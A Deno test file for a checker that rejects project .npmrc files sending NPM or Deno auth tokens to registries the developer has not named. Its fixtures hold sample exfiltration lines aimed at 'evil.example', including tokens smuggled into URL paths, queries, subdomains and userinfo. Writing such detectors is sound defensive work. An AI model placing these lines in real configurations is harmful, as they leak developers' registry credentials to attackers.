import { assertEquals, assertRejects } from "@std/assert";
import "../../../testdata/own_environment.ts";
import { temporaryFolder } from "../../../testdata/programs.ts";
import { checkNpmSettings } from "./npm_settings.ts";

/** Checks an `.npmrc` of an application below the home of a developer. Returns the end of the message. */
async function problemOf(npmrc: string, place = "shop/.npmrc", own = ""): Promise<string> {
  const home = await Deno.realPath(temporaryFolder());
  await Deno.mkdir(`${home}/shop/functions`, { recursive: true });
  await Deno.writeTextFile(`${home}/.npmrc`, own);
  await Deno.writeTextFile(`${home}/${place}`, npmrc);
  Deno.env.set("HOME", home);
  try {
    await checkNpmSettings(`${home}/shop/functions`);
    return "";
  } catch (error) {
    const { message } = error as Error;
    const [, rest = message] = message.split(`Cannot use "${home}/${place}": `);
    return rest.replace("; if you trust this registry, move the line to ~/.npmrc", "");
  }
}

const sends = (name: string, host: string, line = 1) =>
  `line ${line} sends the variable ${name} to "${host}", which neither ~/.npmrc nor NPM_CONFIG_REGISTRY names`;

Deno.test("checkNpmSettings() lets tokens go only to the registries that the developer names", async () => {
  const evil = "//evil.example/:_authToken=${NPM_TOKEN}";
  for (
    const [npmrc, own, expected] of [
      ["", "", ""],
      ["@a:registry=https://evil.example/\n//evil.example/:_authToken=literal", "", ""],
      ["//registry.npmjs.org/:_authToken=${NPM_TOKEN}", "", ""],
      [
        "@a:registry=https://npm.pkg.github.com\n//npm.pkg.github.com/:_authToken = ${NODE_AUTH_TOKEN}",
        "",
        "",
      ],
      ["cache=${HOME}/.npm\nx=${AWS_SECRET_ACCESS_KEY}\n# ${NPM_TOKEN}", "", ""], // Deno has no such key
      [evil, "//evil.example/:_authToken=x", ""],
      [evil, "registry=https://evil.example", ""],
      [evil, "@a:registry=https://evil.example/npm/\n", ""],
      [evil, "", sends("NPM_TOKEN", "evil.example")],
      [`a=b\r\n${evil}`, "", sends("NPM_TOKEN", "evil.example", 2)],
      [evil, "//evil.example.org/:_authToken=x", sends("NPM_TOKEN", "evil.example")],
      [
        "//evil.example/a/:_password=${DENO_AUTH_TOKENS}",
        "",
        sends("DENO_AUTH_TOKENS", "evil.example"),
      ],
      [
        "//registry.npmjs.org:8080/:_authToken=${NPM_TOKEN}",
        "",
        sends("NPM_TOKEN", "registry.npmjs.org:8080"),
      ],
      ...[
        "registry=https://evil.example/${NPM_TOKEN}/",
        '"//evil.example/:_authToken"=${NPM_TOKEN}',
        "//registry.npmjs.org@evil.example/:_authToken=${NPM_TOKEN}",
        "//${NPM_TOKEN}.evil.example/:_authToken=x",
        "@a:registry=https://evil.example/?${NPM_TOKEN}",
      ].map((line) =>
        [
          line,
          "",
          "line 1 has the variable NPM_TOKEN, and is not the token of one registry",
        ] as const
      ),
    ] as const
  ) {
    assertEquals(await problemOf(npmrc, "shop/.npmrc", own), expected, npmrc);
  }
  assertEquals(await problemOf(evil, "shop/functions/.npmrc"), sends("NPM_TOKEN", "evil.example"));
  assertEquals(await problemOf(evil, ".npmrc"), "", "the developer's own file");
});

Deno.test("checkNpmSettings() takes the registry of NPM_CONFIG_REGISTRY, and not the one that npm sets", async () => {
  const npmrc = "//npm.example:4873/:_authToken=${NPM_TOKEN}";
  Deno.env.set("npm_config_registry", "http://npm.example:4873/");
  assertEquals(await problemOf(npmrc), sends("NPM_TOKEN", "npm.example:4873"));
  Deno.env.set("NPM_CONFIG_REGISTRY", "http://npm.example:4873/");
  assertEquals(await problemOf(npmrc), "");
});

Deno.test("checkNpmSettings() works without a home", async () => {
  const folder = temporaryFolder();
  Deno.env.delete("HOME");
  await Deno.writeTextFile(`${folder}/.npmrc`, "//evil.example/:_authToken=${NPM_TOKEN}");
  await assertRejects(() => checkNpmSettings(folder), Error, "Cannot use");
});
